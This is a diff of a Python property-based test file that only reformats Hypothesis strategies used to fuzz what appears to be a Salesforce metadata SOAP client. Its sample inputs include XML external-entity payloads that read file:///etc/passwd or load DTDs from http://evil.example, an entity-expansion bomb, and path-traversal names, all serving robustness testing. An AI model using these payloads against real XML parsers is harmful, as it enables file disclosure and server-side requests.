@@ -36,33 +36,78 @@ _CONNECTED = (
 )
 _RECORDS = {EXTERNAL_CLIENT_APP: _RECORD, CONNECTED_APP: _CONNECTED}
 _certificates = st.sampled_from(
-    (f"<certificate>{_INSTALLED}</certificate>", "<certificate/>", "", "<certificate>AAAA</certificate>", "<certificate>\u0660</certificate>",
-     f"<certificate><x>{_INSTALLED}</x></certificate>", f"<certificate>{'A' * 50_000}</certificate>", "<certificate xsi:nil='true'/>",
-     f"<certificate>{_INSTALLED * 3}</certificate>", f"<certificate>{_INSTALLED}</certificate><certificate>x</certificate>")
-)  # fmt: skip
+    (
+        f"<certificate>{_INSTALLED}</certificate>",
+        "<certificate/>",
+        "",
+        "<certificate>AAAA</certificate>",
+        "<certificate>\u0660</certificate>",
+        f"<certificate><x>{_INSTALLED}</x></certificate>",
+        f"<certificate>{'A' * 50_000}</certificate>",
+        "<certificate xsi:nil='true'/>",
+        f"<certificate>{_INSTALLED * 3}</certificate>",
+        f"<certificate>{_INSTALLED}</certificate><certificate>x</certificate>",
+    )
+)
 _more = st.sampled_from(
     (
-        "", "", "", "<isX>true</isX>", "<x xmlns='urn:other'>1</x>", "<x xsi:nil='true'/>", "<a:b xmlns:a='urn:a' a:c='1'/>", "<x>\r\n&#13;</x>",
-        "<label>twice</label>", "<!-- c --><?p i?>", "<![CDATA[<x/>]]>", "&bomb;", "&nbsp;", "&#0;", "&#xD800;", "<x>" * 400 + "</x>" * 400,
-        "<x>" * 3_000 + "</x>" * 3_000, "<x>" * 30_000 + "</x>" * 30_000, "<x/>" * 5_000, f"<x>{'y' * 200_000}</x>", "<fullName>../../x</fullName>",
-        "<x " + " ".join(f"a{n}='1'" for n in range(500)) + "/>", "<externalClientApplication>Other</externalClientApplication>",
-        "<consumerKey>3MVG9</consumerKey><consumerSecret>x</consumerSecret>", "<" + "n" * 9_000 + "/>", "<x:y/>",
+        "",
+        "",
+        "",
+        "<isX>true</isX>",
+        "<x xmlns='urn:other'>1</x>",
+        "<x xsi:nil='true'/>",
+        "<a:b xmlns:a='urn:a' a:c='1'/>",
+        "<x>\r\n&#13;</x>",
+        "<label>twice</label>",
+        "<!-- c --><?p i?>",
+        "<![CDATA[<x/>]]>",
+        "&bomb;",
+        "&nbsp;",
+        "&#0;",
+        "&#xD800;",
+        "<x>" * 400 + "</x>" * 400,
+        "<x>" * 3_000 + "</x>" * 3_000,
+        "<x>" * 30_000 + "</x>" * 30_000,
+        "<x/>" * 5_000,
+        f"<x>{'y' * 200_000}</x>",
+        "<fullName>../../x</fullName>",
+        "<x " + " ".join(f"a{n}='1'" for n in range(500)) + "/>",
+        "<externalClientApplication>Other</externalClientApplication>",
+        "<consumerKey>3MVG9</consumerKey><consumerSecret>x</consumerSecret>",
+        "<" + "n" * 9_000 + "/>",
+        "<x:y/>",
     )
-)  # fmt: skip
+)
 _names = st.sampled_from(
     ("Billing", "Billing_glbloauth", "", "../Billing", "a" * 300, "ns__Billing", "Bill\u200bing", "%2e%2e%2f")
 )
 _PROLOGUES = (
-    "", "", "", '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.1"?>', '<?xml version="1.0" encoding="UTF-7"?>',
-    '<?xml version="1.0" encoding="nonsense"?>', '<?xml version="1.0" encoding="utf-16"?>', "<!DOCTYPE e>",
+    "",
+    "",
+    "",
+    '<?xml version="1.0" encoding="UTF-8"?>',
+    '<?xml version="1.1"?>',
+    '<?xml version="1.0" encoding="UTF-7"?>',
+    '<?xml version="1.0" encoding="nonsense"?>',
+    '<?xml version="1.0" encoding="utf-16"?>',
+    "<!DOCTYPE e>",
     '<!DOCTYPE e [<!ENTITY a "aaaaaaaaaa"><!ENTITY bomb "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
-    '<!DOCTYPE e [<!ENTITY bomb SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE e SYSTEM "http://evil.example/x.dtd">',
-    '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>', "\ufeff", " \n", "<?xml-stylesheet href='http://evil.example/'?>",
-)  # fmt: skip
+    '<!DOCTYPE e [<!ENTITY bomb SYSTEM "file:///etc/passwd">]>',
+    '<!DOCTYPE e SYSTEM "http://evil.example/x.dtd">',
+    '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
+    "\ufeff",
+    " \n",
+    "<?xml-stylesheet href='http://evil.example/'?>",
+)
 _ENVELOPE = (
-    '{prologue}<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/" xmlns="' + MD[1:-1] + '" xmlns:xsi="' + XSI[1:-1] + '">'
+    '{prologue}<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/" xmlns="'
+    + MD[1:-1]
+    + '" xmlns:xsi="'
+    + XSI[1:-1]
+    + '">'
     "<e:Header/><e:Body>{payload}</e:Body></e:Envelope>"
-)  # fmt: skip
+)
 _FAULTS = ("sf:INVALID_SESSION_ID", "sf:INVALID_TYPE", "sf:UNKNOWN_EXCEPTION", "", f"sf:{_TOKEN}", "x" * 5_000)
 _statuses = weighted((5, st.just(200)), (2, st.just(500)), (1, st.sampled_from((204, 302, 401, 403, 404, 420, 503))))
 
@@ -117,8 +162,12 @@ _FAILED_ALONE = _FAILED | {"details": {"componentFailures": _FAILURE}}
 _FAILED_WHOLE = _FAILED | {"details": None, "errorMessage": f"UNKNOWN_EXCEPTION: An unexpected error {_TOKEN}"}
 _RUNNING = _RESULT | {"done": False, "success": False, "status": "InProgress"}
 _polled = weighted(
-    (4, st.just(_RESULT)), (3, st.just(_FAILED)), (2, st.just(_FAILED_ALONE)), (2, st.just(_FAILED_WHOLE)), (1, st.just(_RUNNING))
-).flatmap(lambda result: bodies({"id": "0Af000000000001AAA", "deployResult": result}, most=2))  # fmt: skip
+    (4, st.just(_RESULT)),
+    (3, st.just(_FAILED)),
+    (2, st.just(_FAILED_ALONE)),
+    (2, st.just(_FAILED_WHOLE)),
+    (1, st.just(_RUNNING)),
+).flatmap(lambda result: bodies({"id": "0Af000000000001AAA", "deployResult": result}, most=2))
 _errors = bodies([{"errorCode": "INSUFFICIENT_ACCESS", "message": f"no access, {_TOKEN}"}])
 _rest_statuses = st.sampled_from((200, 201, 302, 400, 401, 403, 404, 420, 500, 503))
 _submitted = st.builds(
